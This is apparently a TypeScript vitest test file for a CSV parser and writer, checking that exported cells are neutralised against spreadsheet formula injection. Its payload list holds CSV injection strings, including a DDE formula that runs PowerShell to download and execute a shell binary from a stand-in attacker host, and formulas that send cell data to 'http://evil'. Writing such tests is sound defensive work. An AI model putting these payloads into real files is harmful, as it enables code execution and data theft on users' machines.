import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvNumber, escapeFormula, parseCsv, toCsv } from './csv.js';

describe('parseCsv', () => {
  it('reads quoted fields with commas, doubled quotes and line breaks, CRLF or LF, and skips blank lines', () => {
    expect(parseCsv('\uFEFFa,b,c\r\n"x, y","say ""hi""","line\nbreak"\n\n1,,3')).toEqual([
      ['a', 'b', 'c'],
      ['x, y', 'say "hi"', 'line\nbreak'],
      ['1', '', '3'],
    ]);
  });

  it('refuses a file that ends inside quotes', () => {
    expect(() => parseCsv('a,"b')).toThrow(RangeError);
  });
});

/**
 * OWASP CSV injection payloads (https://owasp.org/www-community/attacks/CSV_Injection, and the
 * payload lists it links), plus the ones papaparse's `escapeFormulae` let through.
 */
const PAYLOADS = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '=HYPERLINK("http://evil","x")',
  `=cmd|' /C calc'!A0`,
  `=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0`,
  '=DDE("cmd";"/C calc";"!A0")',
  `DDE ("cmd";"/C calc";"!A0")`,
  `@SUM(1+9)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
  `+thespanishinquisition(cmd|'/c calc.exe'!A`,
  '=IMPORTXML(CONCAT("http://evil/?", A1), "//a")',
  '=IMAGE("http://evil/x.png")',
  '=WEBSERVICE("http://evil")',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\r\n=1+1',
  '\tsafe',
  '\rsafe',
  ' =1+1',
  '   @SUM(1+1)',
  '\u00A0=1+1',
  '\u3000=1+1',
  '"=1+1"',
  `'=1+1`,
  '=1+1\n',
  'safe\n=1+1',
  'safe\r=1+1',
  'safe\r\n=1+1',
  'safe\n  -1+1',
  'a\n\n\n+1',
  '=HYPERLINK("http://evil","click")\nrest',
  'Nursing\n=HYPERLINK("http://evil","x")\n@SUM(1+1)',
  '%0A=1+1',
  decodeURIComponent('%0A=1+1'),
  decodeURIComponent('safe%0D%0A%3D1%2B1'),
  decodeURIComponent('%09=1+1'),
  'safe\u2028=1+1',
  'x\u0085-1',
  '\uFF1D1+1',
  ' \uFF0B1',
  '=1+1,=2+2',
  '=1+1"',
  '"',
  ',',
  '=',
];

/** The character a spreadsheet, or a reader that splits lines, looks at first: a formula trigger? */
const TRIGGER = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const startsFormula = (line: string) => TRIGGER.test(line) || TRIGGER.test(line.trimStart());

describe('toCsv (one writer for every export)', () => {
  it.each(PAYLOADS)('neutralises %j: the cell and every line in it start with no formula trigger', (payload) => {
    const csv = toCsv(['Name'], [[payload]]);
    const cell = Papa.parse<string[]>(csv).data[1]![0]!;
    expect(startsFormula(cell)).toBe(false);
    for (const line of cell.split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/)) expect(startsFormula(line)).toBe(false);
    // and a reader that ignores quotes and splits the file into lines finds no formula either
    for (const line of csv.split(/\r\n|[\n\r\v\f\u0085\u2028\u2029]/)) expect(startsFormula(line.replace(/^"/, ''))).toBe(false);
  });

  it.each(PAYLOADS)('round-trips %j through papaparse and our reader: the cell, with its escape', (payload) => {
    const csv = toCsv(['A', 'B', 'C'], [['before', payload, 'after']]);
    const expected = [
      ['A', 'B', 'C'],
      ['before', escapeFormula(payload), 'after'],
    ];
    expect(Papa.parse<string[]>(csv).data).toEqual(expected);
    expect(parseCsv(csv)).toEqual(expected);
  });

  it.each([
    ['=1+1', "'=1+1"],
    [' =1+1', "' =1+1"],
    ['\t=1+1', "'\t=1+1"],
    ['\tsafe', "'\tsafe"],
    ['\r=1+1', "'\r'=1+1"],
    ['=HYPERLINK("x")\nrest', `'=HYPERLINK("x")\nrest`],
    ['safe\r\n=1+1\n-2', "safe\r\n'=1+1\n'-2"],
  ])('escapes %j with one leading quote per line: %j', (cell, escaped) => {
    expect(escapeFormula(cell)).toBe(escaped);
  });

  it.each(['Maria Lopez', "O'Brien", 'a=b', 'x-1', '2025-09-02', 'line one\nline two', '', ' padded ', '%0A=1+1'])('leaves %j as it was', (plain) => {
    expect(escapeFormula(plain)).toBe(plain);
  });

  it('escapes in one pass, however many lines a cell has', () => {
    const many = `${'\n '.repeat(200_000)}=1+1`;
    expect(escapeFormula(many)).toBe(`${'\n '.repeat(200_000).slice(0, -1)}'\u0020=1+1`);
  });

  it('quotes per RFC 4180: quotes, commas, CR and LF, doubling quotes; CRLF between records, none after the last', () => {
    const csv = toCsv(['A', 'B', 'C', 'D', 'E', 'F'], [['Nguyen, "Jr."', 'line one\nline two', 'cr\ronly', 'plain', 42, ' padded']]);
    expect(csv).toBe('A,B,C,D,E,F\r\n"Nguyen, ""Jr.""","line one\nline two","cr\ronly",plain,42," padded"');
    expect(toCsv(['A'], [])).toBe('A');
    expect(
      toCsv(
        ['A', 'B'],
        [
          [null, undefined],
          ['', 'x'],
        ],
      ),
    ).toBe('A,B\r\n,\r\n,x');
    expect(toCsv(['=X'], [['=1+1']])).toBe(`"'=X"\r\n"'=1+1"`);
  });

  it('writes numbers our code formats raw, so a negative amount stays a number; the same text from data is escaped', () => {
    const csv = toCsv(
      ['Amount', 'Count', 'Text'],
      [
        [csvNumber(-12.5, 2), -3, '-12.50'],
        [csvNumber(1500, 2), 0.5, '1500.00'],
      ],
    );
    expect(csv).toBe(`Amount,Count,Text\r\n-12.50,-3,"'-12.50"\r\n1500.00,0.5,1500.00`);
    expect(Papa.parse<string[]>(csv, { dynamicTyping: true }).data[1]).toEqual([-12.5, -3, "'-12.50"]);
    // a value that is not a finite number is text, and escaped like text
    expect(toCsv(['A', 'B'], [[csvNumber(-Infinity, 2), Number.NaN]])).toBe(`A,B\r\n"'-Infinity",NaN`);
  });
});
